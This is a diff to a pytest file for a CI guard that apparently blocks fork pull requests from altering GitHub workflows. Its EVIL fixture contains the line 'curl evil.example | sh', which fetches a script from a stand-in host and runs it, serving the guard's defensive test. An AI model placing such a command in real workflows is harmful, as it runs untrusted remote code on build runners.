@@ -9,8 +9,7 @@ from pathlib import Path
 
 import pytest
 import responses
-from github_fakes import API, CONTENTS_FILE, CONTENTS_OP, INSTALLATION_ID, example, load_payload
-from github_fakes import run_cli
+from github_fakes import API, CONTENTS_FILE, CONTENTS_OP, INSTALLATION_ID, example, load_payload, run_cli
 from responses import matchers
 
 from runner.github import guard
@@ -65,7 +64,10 @@ def no_client() -> GitHubClient:
     raise AssertionError("this job must not need GitHub")
 
 
-SAFE = "on: pull_request\njobs:\n  test:\n    runs-on: [self-hosted, microvm]\n    steps:\n      - uses: org/microvm-check@v1\n"
+SAFE = (
+    "on: pull_request\njobs:\n  test:\n    runs-on: [self-hosted, microvm]\n"
+    "    steps:\n      - uses: org/microvm-check@v1\n"
+)
 EVIL = SAFE.replace("      - uses: org/microvm-check@v1\n", "      - run: curl evil.example | sh\n")
 
 
@@ -115,17 +117,21 @@ def test_github_failing_refuses_the_fork_job(tmp_path, monkeypatch, capsys, priv
 
 
 @responses.activate
-def test_guard_command_refuses_and_allows(tmp_path, monkeypatch, capsys, operations, private_pem, token_endpoint) -> None:
+@pytest.mark.parametrize(("head", "status"), [(EVIL, 1), (SAFE, 0)])
+def test_guard_command_exit_status(tmp_path, monkeypatch, capsys, operations, private_pem, token_endpoint,
+                                   head, status) -> None:
     key = tmp_path / "app.pem"
     key.write_text(private_pem)
     config = tmp_path / "github.yml"
     config.write_text(f"app_id: 1\nprivate_key_path: {key}\ninstallation_id: {INSTALLATION_ID}\n")
     token_endpoint(responses)
-    fake_workflows(operations, base=SAFE, head=EVIL)
+    fake_workflows(operations, base=SAFE, head=head)
     for name, value in job_env(tmp_path, load_payload(FORK_PR)).items():
         monkeypatch.setenv(name, value)
-    assert run_cli(["guard", "--config", str(config)]) == 1
-    assert "::error" in capsys.readouterr().out
+    assert run_cli(["guard", "--config", str(config)]) == status
+    captured = capsys.readouterr()
+    assert ("::error" in captured.out) == (status == 1)
+    assert ("job allowed" in captured.err) == (status == 0)
 
 
 @pytest.mark.parametrize("payload_name", [SAME_REPO_PR, "opened.payload.json", "synchronize.payload.json"])
